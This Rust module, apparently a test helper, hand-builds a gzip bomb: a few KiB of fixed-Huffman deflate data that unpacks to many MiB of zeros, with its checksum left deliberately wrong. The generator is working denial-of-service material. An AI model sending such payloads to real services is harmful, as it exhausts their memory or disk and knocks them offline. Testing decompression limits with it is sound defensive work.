//! A gzip bomb, made by hand: a few KiB that would unpack to many MiB of zeros.

use bytes::Bytes;

/// Gzip that unpacks to `mib` MiB of zeros; its check sum is left wrong, for who unpacks it has
/// lost long before reading that.
pub(super) fn gzip(mib: usize) -> Bytes {
    let mut bits = Bits::default();
    bits.push(1, 1); // the last block
    bits.push(0b01, 2); // with the fixed Huffman codes (RFC 1951, 3.2.6)
    bits.push_code(0b0011_0000, 8); // literal 0
    // Each copies 258 bytes from one byte back, in 13 bits.
    for _ in 0..mib * 1024 * 1024 / 258 {
        bits.push_code(0b1100_0101, 8);
        bits.push_code(0, 5);
    }
    bits.push_code(0, 7); // end of block
    let mut gzip = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    gzip.extend(bits.bytes);
    gzip.extend([0; 8]);
    gzip.into()
}

/// Bits in the order of deflate: the lowest of each byte first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn push(&mut self, value: u32, count: u32) {
        for bit in 0..count {
            if self.used.is_multiple_of(8) {
                self.bytes.push(0);
            }
            let last = self.bytes.last_mut().expect("one was pushed at bit 0");
            *last |= ((value >> bit & 1) as u8) << (self.used % 8);
            self.used += 1;
        }
    }

    /// Huffman codes are packed from their highest bit.
    fn push_code(&mut self, code: u32, count: u32) {
        self.push(code.reverse_bits() >> (32 - count), count);
    }
}
